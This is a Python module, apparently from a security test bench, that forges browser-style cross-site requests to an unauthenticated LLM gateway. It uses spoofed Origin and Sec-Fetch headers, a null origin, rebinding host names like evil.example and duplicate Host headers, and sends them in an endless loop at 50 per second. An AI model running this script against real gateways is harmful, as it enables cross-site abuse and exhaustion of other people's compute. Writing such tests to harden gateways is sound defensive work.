"""Requests as a browser sends them for a page of another site, to a gateway that asks for no key."""

from __future__ import annotations

import asyncio
import json
from urllib.parse import urlsplit

from bench.harness.target import Target

PER_S = 50.0
"""Pages ask for whatever they like in a loop."""

EVIL = "evil.example"
CHROMES = "user-agent: Mozilla/5.0 (X11; Linux x86_64) Chrome/140.0.0.0\r\naccept: */*\r\n"


def forged(url: str, model: str) -> dict[str, bytes]:
    """One request of each kind, by what the page does."""
    here = urlsplit(url).netloc
    there = f"{EVIL}:{urlsplit(url).port}"
    spam = json.dumps({"model": model, "messages": [{"role": "user", "content": "spam"}], "max_tokens": 2000})
    text = "content-type: text/plain;charset=UTF-8\r\n"
    other = f"origin: http://{EVIL}\r\n"
    across = f"{other}sec-fetch-site: cross-site\r\nsec-fetch-mode: no-cors\r\nsec-fetch-dest: empty\r\n"
    from_form = f"{other}sec-fetch-site: cross-site\r\nsec-fetch-mode: navigate\r\nsec-fetch-dest: document\r\n"
    return {
        "fetch without CORS": _post("/v1/chat/completions", here, across + text, spam),
        "the same, to Ollama's API": _post("/api/chat", here, across + text, spam),
        "the same, to Anthropic's": _post("/v1/messages", here, across + text, spam),
        "a browser that only sends Origin": _post("/v1/chat/completions", here, other + text, spam),
        "a form": _post("/v1/chat/completions", here, from_form + "content-type: text/plain\r\n", spam),
        "a frame in a sandbox": _post("/api/chat", here, "origin: null\r\nsec-fetch-site: cross-site\r\n" + text, spam),
        "a page on another port": _post(
            "/api/chat", here, "origin: http://127.0.0.1:9\r\nsec-fetch-site: same-site\r\n" + text, spam
        ),
        "a name that leads here": _post(
            "/v1/chat/completions",
            there,
            f"origin: http://{there}\r\nsec-fetch-site: same-origin\r\ncontent-type: application/json\r\n",
            spam,
        ),
        "a look under such a name": _get("/p2pnet/v1/overview", there, "sec-fetch-site: same-origin\r\n"),
        "a stream under such a name": _get("/p2pnet/v1/live", there, "sec-fetch-site: same-origin\r\n"),
        "such a name as a whole URL": _get(f"http://{there}/v1/models", here, ""),
        "two hosts": _get("/v1/models", here, f"host: {there}\r\n"),
        "an image": _get("/p2pnet/v1/live", here, "sec-fetch-site: cross-site\r\nsec-fetch-mode: no-cors\r\n"),
    }


async def ask(url: str, request: bytes) -> bytes:
    """All that comes back. The request has to close its connection."""
    split = urlsplit(url)
    reader, writer = await asyncio.open_connection(split.hostname, split.port)
    try:
        writer.write(request)
        return await reader.read()
    finally:
        writer.close()


async def attack(target: Target) -> None:
    """All of them in turn, each on a connection of its own."""
    kinds = list(forged(target.url, target.model).values())
    async with asyncio.TaskGroup() as group:
        number = 0
        while True:
            group.create_task(ask(target.url, kinds[number % len(kinds)]))
            number += 1
            await asyncio.sleep(1 / PER_S)


def _get(path: str, host: str, headers: str) -> bytes:
    return f"GET {path} HTTP/1.1\r\nhost: {host}\r\n{CHROMES}{headers}connection: close\r\n\r\n".encode()


def _post(path: str, host: str, headers: str, body: str) -> bytes:
    head = f"POST {path} HTTP/1.1\r\nhost: {host}\r\n{CHROMES}{headers}content-length: {len(body)}\r\n"
    return f"{head}connection: close\r\n\r\n{body}".encode()
